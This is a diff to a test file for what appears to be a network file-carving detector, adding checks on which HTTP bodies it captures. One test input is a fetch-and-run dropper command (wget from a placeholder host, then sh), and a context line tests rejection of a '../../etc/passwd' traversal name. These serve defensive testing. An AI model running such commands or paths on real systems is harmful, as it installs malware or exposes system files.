@@ -1,5 +1,5 @@
 """Pieces of the carving detector: file typing, memory budgets, incremental carving, FTP address replies,
-the sha256-named store."""
+the sha256-named store, which HTTP bodies are worth reading."""
 
 from __future__ import annotations
 
@@ -13,11 +13,13 @@ from pathlib import Path
 
 import pytest
 
-from minerwatch.detectors.files.carve import Budget, Carve
+from minerwatch.detectors.files.carve import Budget, Carve, FileLimits
 from minerwatch.detectors.files.ftp import parse_eprt, parse_epsv, parse_host_port
-from minerwatch.detectors.files.http import url_filename
+from minerwatch.detectors.files.http import HttpFileConsumer, url_filename
 from minerwatch.detectors.files.magic import identify
 from minerwatch.detectors.files.store import FileStore
+from minerwatch.flows.http import HttpMessage
+from minerwatch.protocols.http import Headers, Request, Response
 
 
 def _tar() -> bytes:
@@ -153,3 +155,28 @@ def test_store_names_files_by_digest_and_once(tmp_path: Path) -> None:
     assert not list(tmp_path.rglob(".partial-*"))
     with pytest.raises(ValueError):
         store.store("../../etc/passwd", b"x")
+
+
+def _message(
+    body: bytes, target: bytes = b"/", headers: list[tuple[bytes, bytes]] | None = None
+) -> HttpMessage:
+    request = HttpMessage(Request(b"GET", target, b"1.1", Headers([])), 0.0, True)
+    response = Response(200, b"OK", b"1.1", Headers(headers or []))
+    return HttpMessage(response, 0.0, False, bytearray(body), request=request)
+
+
+@pytest.mark.parametrize(
+    ("message", "wanted"),
+    [
+        (_message(b"<!DOCTYPE html><html>"), False),
+        (_message(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), False),
+        (_message(b"\x89PNG\r\n\x1a\n", target=b"/logo.png"), True),  # named: a file whatever it is
+        (_message(b"\x89PNG", headers=[(b"Content-Disposition", b'attachment; filename="a.png"')]), True),
+        (_message(ELF_ARM), True),
+        (_message(b"cd /tmp; wget http://x/y; sh y"), True),  # a script without a shebang is text
+        (_message(b'{"result": 1}'), True),
+    ],
+)
+def test_http_bodies_wanted_at_their_first_bytes(message: HttpMessage, wanted: bool) -> None:
+    consumer = HttpFileConsumer(None, FileLimits(), Budget(1))  # type: ignore[arg-type]
+    assert consumer.wants_body(None, message) is wanted  # type: ignore[arg-type]
